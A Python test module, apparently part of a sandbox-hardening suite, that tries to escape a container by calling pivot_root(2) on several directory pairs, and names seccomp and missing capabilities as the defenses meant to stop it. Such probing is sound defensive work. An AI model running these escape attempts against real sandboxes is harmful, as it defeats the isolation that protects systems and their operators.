"""Change the root of the mount namespace.

Technique: pivot_root(2) puts another mount at / and the old root below it, or on top of it; then the old one is taken off.
    What a sandbox does to get in, done once more to get out.
Success: pivot_root is accepted.
Stopped by: seccomp, no_capabilities
"""


def attack():
    os.makedirs("/work/old", exist_ok=True)

    def child(new, old):
        os.chdir(new)
        syscall("pivot_root", b".", old)
        return f"{new} became the root: {os.listdir('/')}"

    for new, old in (("/work", b"."), ("/work", b"old"), ("/tmp", b"."), ("/", b".")):
        came = answer(forked, lambda new=new, old=old: child(new, old))
        if came.startswith("/"):
            return came
    # Not a mount, or the root already: those come after the check of rights, so nothing else is to be had.
    return None


def twin():
    """A directory of one's own to work in, and paths that lead up from it."""
    os.makedirs("/work/inner", exist_ok=True)
    os.chdir("/work/inner")
    assert os.path.realpath("..") == "/work" and os.path.realpath("../../../..") == "/"
